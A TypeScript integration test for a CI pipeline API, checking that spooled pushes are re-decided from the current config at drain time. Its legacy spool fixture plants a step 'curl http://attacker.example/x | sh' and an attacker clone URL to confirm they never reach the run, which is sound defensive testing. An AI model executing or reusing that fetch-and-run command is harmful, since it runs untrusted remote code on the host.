// The spool keeps a push's facts only and decides again from the config current when it drains:
// one API instance spools pushes while Temporal is unreachable; the operator changes conveyor.yml
// (new steps, a branch no longer monitored) and restarts the API; the new instance starts the
// push with the NEW steps, drops the push whose branch is no longer monitored with the reason
// logged, and drains an old-format spool file (the whole PipelineInput, commands included) by its
// facts only — its stored commands never reach the run.
import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import type { Client } from '@temporalio/client';
import pino from 'pino';
import { createApi, listen } from '../../api/server';
import { freePort, waitFor } from '../../cli/local-stack/services';
import { pushPayload, sendWebhook } from '../../cli/webhook-client';
import { pipelineId } from '../../common/ids';
import type { PipelineInput } from '../../common/types';
import { connectClient } from '../../workers/temporal';
import { clientFor, tempDir, testConfig, testEnv, uid } from '../helpers/stack';

const SECRET = 'api-spool-redecide-secret';
const REPO = 'acme/widget';
const newSha = () => crypto.randomBytes(20).toString('hex');

/** The input the run was started with, from its first history event. */
async function startedInput(client: Client, workflowId: string): Promise<PipelineInput> {
  const history = await client.workflow.getHandle(workflowId).fetchHistory();
  const payload = history.events?.[0]?.workflowExecutionStartedEventAttributes?.input?.payloads?.[0];
  return JSON.parse(Buffer.from(payload!.data!).toString('utf8')) as PipelineInput;
}

describe('spooled pushes are decided again at drain time', () => {
  it('new steps apply, an unmonitored branch is dropped with a logged reason, an old-format entry gives only its facts', async () => {
    const spoolDir = tempDir('api-spool-redecide');
    const taskQueue = `conveyor-${uid()}`;
    const repo = (steps: Record<string, string>, branches: { match: string; channel: string }[]) => [
      { name: REPO, cloneUrl: '/srv/widget.git', steps, branches },
    ];
    // Before: main and release/* monitored, unit step v1; Temporal at an address nobody answers.
    const before = testConfig(
      repo({ unit: 'make test-v1' }, [
        { match: 'main', channel: 'unstable' },
        { match: 'release/*', channel: 'stable' },
      ]),
      {
        api: { spoolDir },
        temporal: { address: `127.0.0.1:${await freePort()}`, namespace: 'default', taskQueue },
      },
    );
    const first = createApi({
      config: before,
      connect: () => connectClient(before, {}),
      logger: pino({ level: 'silent' }),
      secret: SECRET,
      startTimeoutMs: 1000,
      drainBackoffMs: { initial: 60_000, max: 60_000 },
    });
    const firstUrl = `http://127.0.0.1:${await listen(first.server, 0)}`;
    const main = newSha();
    const release = newSha();
    const legacy = newSha();
    try {
      for (const [branch, sha] of [
        ['main', main],
        ['release/1', release],
      ]) {
        const res = await sendWebhook(firstUrl, SECRET, 'push', pushPayload({ repository: REPO, branch, sha }));
        expect(res).toEqual({ status: 202, body: { status: 'queued', workflowId: pipelineId(REPO, branch, sha) } });
      }
    } finally {
      await first.close();
    }
    // What an earlier version of the API left: the whole input, with commands of its own.
    const legacyId = pipelineId(REPO, 'main', legacy);
    const legacyName = `000000000000001-000001-${crypto.createHash('sha256').update(legacyId).digest('hex').slice(0, 16)}.json`;
    const legacyInput = {
      repository: {
        name: REPO,
        cloneUrl: 'https://attacker.example/widget.git',
        steps: { unit: 'curl http://attacker.example/x | sh' },
        distros: ['bookworm'],
        channel: 'stable',
        release: true,
        approval: false,
        supersede: true,
        publicUrls: { staging: 'http://x', production: 'http://y' },
        stepTimeoutSeconds: 60,
        keepBuilds: 10,
        operatorWindowSeconds: 3600,
        distroSpecs: {},
      },
      branch: 'main',
      sha: legacy,
      commit: { message: 'from the old spool', author: 'old', compareUrl: '' },
      deliveryId: 'legacy-delivery',
    };
    fs.writeFileSync(
      path.join(spoolDir, legacyName),
      JSON.stringify({
        version: 1,
        workflowId: legacyId,
        deliveryId: 'legacy-delivery',
        receivedAt: new Date().toISOString(),
        input: legacyInput,
      }),
    );
    const onDisk = fs.readdirSync(spoolDir).filter((n) => n.endsWith('.json'));
    expect(onDisk).toHaveLength(3);
    for (const f of onDisk.filter((n) => n !== legacyName)) {
      expect(fs.readFileSync(path.join(spoolDir, f), 'utf8')).not.toContain('make test-v1');
    }

    // After: only main monitored, unit step v2; Temporal reachable. A restart of the API.
    const current = testConfig(repo({ unit: 'make test-v2' }, [{ match: 'main', channel: 'unstable' }]), {
      api: { spoolDir },
      temporal: { address: testEnv().temporal, namespace: 'default', taskQueue },
    });
    const client = await clientFor(current);
    const logs: { msg: string; reason?: string; branch?: string; sha?: string }[] = [];
    const second = createApi({
      config: current,
      client,
      logger: pino({ level: 'info' }, { write: (l: string) => void logs.push(JSON.parse(l) as { msg: string }) }),
      secret: SECRET,
    });
    try {
      await waitFor('the spool to drain', () => Promise.resolve(second.spool.depth() === 0), { timeoutMs: 20000 });

      const started = await startedInput(client, pipelineId(REPO, 'main', main));
      expect(started.repository.steps).toEqual({ unit: 'make test-v2' });
      expect(started.repository.cloneUrl).toBe('/srv/widget.git');

      const old = await startedInput(client, legacyId);
      expect(old.repository.steps).toEqual({ unit: 'make test-v2' });
      expect(old.repository.cloneUrl).toBe('/srv/widget.git');
      expect(old.repository.channel).toBe('unstable');
      expect(old.commit.message).toBe('from the old spool');
      expect(JSON.stringify(old)).not.toContain('attacker');

      const { count } = await client.workflow.count(`WorkflowId = "${pipelineId(REPO, 'release/1', release)}"`);
      expect(count).toBe(0);
      const dropped = logs.filter((l) => l.msg.startsWith('spooled push dropped'));
      expect(dropped).toEqual([
        expect.objectContaining({
          msg: 'spooled push dropped: branch not monitored in the current config',
          reason: 'ignored: branch not monitored',
          branch: 'release/1',
          sha: release,
        }),
      ]);
      expect(logs.some((l) => l.msg === 'old-format spool entry: only its facts are used')).toBe(true);
      expect(fs.readdirSync(spoolDir).filter((n) => n.endsWith('.json'))).toEqual([]);
    } finally {
      await second.close();
      await client.connection.close();
    }
  });
});
